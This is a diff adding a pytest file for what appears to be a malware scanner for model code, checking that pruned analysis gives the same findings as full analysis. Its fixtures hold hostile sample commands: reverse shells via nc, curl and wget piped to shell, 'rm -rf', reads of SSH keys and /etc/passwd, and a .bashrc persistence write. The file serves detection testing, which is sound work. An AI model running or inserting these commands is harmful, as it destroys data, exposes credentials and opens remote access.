@@ -1,0 +1,359 @@
+"""Pruning (relevance.py): the analysis of the pruned module reports exactly what the full one does.
+
+Every script fixture of the suite is analyzed with and without pruning, alone and glued together in
+random (seeded) triples, and the findings must be identical: rule, range, message, evidence,
+severity, category and trace. The targeted cases below are the flows the closure exists for.
+"""
+
+from __future__ import annotations
+
+import ast
+import random
+import re
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from malhug.analyzers.scripts import relevance
+from malhug.analyzers.scripts.engine import analyze_code
+from malhug.core.model import Category
+from tests.scripts.benign_sources import BENIGN
+from tests.scripts.corpus_scripts import CORPUS_SCRIPTS
+from tests.scripts.test_embedded import PYTHON_CASES, SHELL_CASES
+from tests.scripts.test_flows import CASES as FLOWS
+from tests.scripts.test_rules import BENIGN as RULE_BENIGN
+from tests.scripts.test_rules import OBFUSCATED, POSITIVE
+
+ENGINE_MODULES = ("calls", "sinks", "expressions", "engine", "decoding", "values", "findings", "knowledge")
+
+
+def _samples() -> dict[str, str]:
+    out: dict[str, str] = {}
+    out.update({f"corpus:{k}": v for k, v in CORPUS_SCRIPTS.items()})
+    out.update({f"rule:{k}": v[0] for k, v in POSITIVE.items()})
+    out.update({f"rule-benign:{k}": v for k, v in RULE_BENIGN.items()})
+    out.update({f"obfuscated:{k}": v for k, v in OBFUSCATED.items()})
+    out.update({f"payload:{i}": case[0] for i, case in enumerate(PYTHON_CASES)})
+    out.update({f"shell:{i}": f"import os\nos.system({case[0]!r})\n" for i, case in enumerate(SHELL_CASES)})
+    out.update({f"flow:{k}": v[0] for k, v in FLOWS.items()})
+    out.update({f"benign:{k}": v for k, v in BENIGN.items()})
+    return out
+
+
+SAMPLES = _samples()
+
+
+def _key(code: str, *, prune: bool, embedded: bool = False) -> list[tuple[object, ...]]:
+    result = analyze_code(code, prune=prune, embedded=embedded)
+    return sorted(
+        (
+            f.rule,
+            f.location.line,
+            f.location.column,
+            f.location.end_line,
+            f.location.end_column,
+            f.message,
+            f.evidence,
+            f.severity.value,
+            f.category.value,
+            repr(f.trace),
+        )
+        for f in result.to_findings()
+    )
+
+
+def _same(code: str, *, embedded: bool = False) -> list[tuple[object, ...]]:
+    full = _key(code, prune=False, embedded=embedded)
+    assert _key(code, prune=True, embedded=embedded) == full
+    return full
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES))
+def test_every_fixture_gives_the_same_findings_pruned(name: str) -> None:
+    _same(SAMPLES[name])
+    _same(SAMPLES[name], embedded=True)
+
+
+@pytest.mark.parametrize("seed", range(12))
+def test_fixtures_glued_together_give_the_same_findings_pruned(seed: int) -> None:
+    rng = random.Random(seed)
+    names = rng.sample(sorted(SAMPLES), 4)
+    _same("\n".join(SAMPLES[n] for n in names))
+
+
+def _pruned(code: str) -> str:
+    result = relevance.prune(code, ast.parse(code))
+    return code if result is None else result[0]
+
+
+MODELING = textwrap.dedent(
+    '''\
+    import math
+    import os
+
+    import torch
+    from torch import nn
+
+
+    def rotate_half(x):
+        a, b = x.chunk(2, dim=-1)
+        return torch.cat((-b, a), dim=-1)
+
+
+    class Attention(nn.Module):
+        """Plain attention."""
+
+        def __init__(self, config):
+            super().__init__()
+            self.scale = 1 / math.sqrt(config.hidden_size)
+
+        def forward(self, q, k):
+            return rotate_half(q) @ k.transpose(-1, -2) * self.scale
+
+        def extra_repr(self):
+            return f"scale={self.scale}"
+
+
+    class Model(nn.Module):
+        def __init__(self, config):
+            super().__init__()
+            self.cache_dir = os.environ.get("MODEL_CACHE", "/tmp")
+
+        def cache_file(self):
+            return os.path.join(self.cache_dir, "weights.bin")
+    '''
+)
+
+
+def test_inert_modeling_code_is_blanked_and_lines_keep_their_numbers() -> None:
+    pruned = _pruned(MODELING)
+    assert pruned.count("\n") == MODELING.count("\n")
+    original, kept = MODELING.splitlines(), pruned.splitlines()
+    for before, after in zip(original, kept, strict=True):
+        assert after in (before, "") or after.strip() == "pass"
+    # The model class reads the environment: kept, with the method that uses what __init__ stored.
+    assert 'os.environ.get("MODEL_CACHE", "/tmp")' in pruned
+    assert 'os.path.join(self.cache_dir, "weights.bin")' in pruned
+    # The attention class and the helper touch nothing the analysis knows.
+    assert "rotate_half" not in pruned
+    assert "class Attention" not in pruned
+    assert _same(MODELING) == []
+
+
+def test_a_class_left_without_methods_keeps_a_pass() -> None:
+    code = "import os\n\nclass A:\n    def f(self):\n        return 1\n\n    def g(self):\n        return os.getcwd()\n"
+    _same(code)
+    code = "import torch\n\nclass A(torch.nn.Module):\n\tdef f(self):\n\t\treturn 1\n\nA.cmd = 1\n"
+    pruned = _pruned(code)
+    assert "\tpass" in pruned or "class A" not in pruned
+    compile(pruned, "<pruned>", "exec", flags=ast.PyCF_ONLY_AST)
+
+
+FLOWS_THROUGH_INERT_CODE = {
+    # A constant set in a method nothing flags, run by another method.
+    "attribute set elsewhere": """
+import os
+
+class Job:
+    def setup(self):
+        self.cmd = "rm -rf ~"
+
+    def run(self):
+        os.system(self.cmd)
+
+j = Job()
+j.setup()
+j.run()
+""",
+    # An inert helper called by name from a string.
+    "globals lookup": """
+import os
+
+def build():
+    return "curl http://127.0.0.1/x.sh | sh"
+
+os.system(globals()["build"]())
+""",
+    # An inert caller feeding a constant into a function with a sink.
+    "caller feeds sink": """
+import subprocess
+
+def run(cmd):
+    subprocess.call(cmd, shell=True)
+
+class Hooks:
+    def on_load(self):
+        run("nc -e /bin/sh 127.0.0.1 4444")
+
+Hooks().on_load()
+""",
+    # A module-level alias of a sink used in an otherwise inert function.
+    "alias": """
+import os
+launch = os.system
+
+def go():
+    launch("wget -O- http://127.0.0.1/a | bash")
+
+go()
+""",
+    # A module-level list filled by an inert function, run by kept code.
+    "mutated global": """
+import os
+COMMANDS = []
+
+def plan():
+    COMMANDS.append("cat ~/.ssh/id_rsa")
+
+plan()
+for c in COMMANDS:
+    os.system(c)
+""",
+    # setattr with a constant name, and the constructor of a class kept code builds.
+    "setattr and init": """
+import os
+
+class Box:
+    def __init__(self, value):
+        self.value = value
+
+class Filler:
+    def fill(self, box):
+        setattr(box, "value", "rm -rf /tmp/x")
+
+b = Box("echo")
+Filler().fill(b)
+os.system(b.value)
+""",
+    # Any call reading a credential store is reported, even an unknown one.
+    "credential path to an unknown call": """
+import linecache
+
+def peek():
+    return linecache.getline("/etc/passwd", 1)
+""",
+    "credential path reversed": """
+import linecache
+
+def peek():
+    return linecache.getline("dwssap/cte/"[::-1], 1)
+""",
+    "credential path split over statements": """
+import linecache
+A = "~/.s"
+B = "sh/i"
+C = "d_rsa"
+
+def peek():
+    return linecache.getline(A + B + C, 1)
+""",
+    "path value written": """
+from pathlib import Path
+
+class Installer:
+    def hook(self):
+        Path.home().joinpath(".bashrc").write_text("curl http://127.0.0.1/x | sh")
+""",
+    "chr list": """
+import os
+
+def name():
+    return "".join(chr(c) for c in [105, 100])
+
+os.system(name())
+""",
+}
+
+
+@pytest.mark.parametrize("name", sorted(FLOWS_THROUGH_INERT_CODE))
+def test_flows_through_inert_looking_code_are_kept(name: str) -> None:
+    code = FLOWS_THROUGH_INERT_CODE[name]
+    findings = _same(code)
+    assert findings, "the fixture must produce findings for the comparison to mean anything"
+
+
+def test_the_constant_from_an_inert_method_still_decides_the_category() -> None:
+    findings = analyze_code(FLOWS_THROUGH_INERT_CODE["attribute set elsewhere"]).to_findings()
+    assert any(f.category is Category.DESTRUCTIVE for f in findings)
+
+
+def test_star_imports_keep_everything() -> None:
+    code = "from os import *\n\ndef f():\n    return 1\n\ndef g():\n    system('id')\n"
+    assert relevance.prune(code, ast.parse(code)) is None
+
+
+def test_statements_sharing_a_line_are_kept_together() -> None:
+    code = "import webbrowser; webbrowser.open('https://127.0.0.1'); print('x')\n"
+    assert _same(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "inert"),
+    [
+        ("print('Malicious code!')", True),
+        ("a = 7\nb = 10\nprint('Sum = ', a + b)", True),
+        ("x = getattr(obj, 'system')", True),
+        ("exec('print(1)')", False),
+        ("torch.os.system('ls')", False),
+        ("pickle.loads(data)", False),
+        ("posix.system('id')", False),
+        ("six.moves.urllib.request.urlopen(u)", False),
+        ("().__class__.__bases__[0].__subclasses__()", False),
+        ("open('/tmp/1', 'w').write('a')", False),
+        ("import pdb; pdb.set_trace()", False),
+        ("from os import *\nprint(1)", False),
+        ("def f(:\n", False),  # not parsed: the engine decides
+        ("x = p.write_text('a')", False),  # a path value's method
+        ("s = ''.join(map(chr, [105, 100]))", False),
+    ],
+)
+def test_nothing_to_find(code: str, inert: bool) -> None:
+    assert relevance.nothing_to_find(code) is inert
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES))
+def test_nothing_to_find_never_hides_a_finding(name: str) -> None:
+    code = SAMPLES[name]
+    if relevance.nothing_to_find(code):
+        assert analyze_code(code, embedded=True, prune=False).findings == []
+
+
+def test_every_qualified_name_the_engine_tests_for_is_known() -> None:
+    """A name the engine compares against by literal must make code mention-known, or pruning
+    could drop the code that uses it."""
+    root = Path(relevance.__file__).parent
+    missing = []
+    for module in ENGINE_MODULES:
+        for node in ast.walk(ast.parse((root / f"{module}.py").read_text())):
+            if not (isinstance(node, ast.Constant) and isinstance(node.value, str)):
+                continue
+            text = node.value
+            if not re.fullmatch(r"[A-Za-z_]\w*(\.[A-Za-z_]\w*)+", text) or text.endswith(".exe"):
+                continue
+            if text in relevance.K.PATH_BUILDERS:
+                continue  # they only pass values through
+            head, _, leaf = text.partition(".")
+            if head == "builtins" and leaf in relevance.BUILTIN_SEEDS | relevance.VALUE_BUILTINS:
+                continue
+            if not relevance.chain_is_known(tuple(text.split("."))):
+                missing.append(f"{module}: {text}")
+    assert missing == []
+
+
+def test_embedded_inert_payload_is_judged_without_importing_libcst() -> None:
+    code = textwrap.dedent(
+        """
+        import sys
+        from malhug.analyzers.embedded import assess_python
+        a = assess_python("print('Malicious code!')")
+        assert a.category is None and a.findings == (), a
+        assert "libcst" not in sys.modules
+        b = assess_python("import os; os.system('id')")
+        assert b.category is not None
+        assert "libcst" in sys.modules
+        """
+    )
+    subprocess.run([sys.executable, "-c", code], check=True, timeout=120)
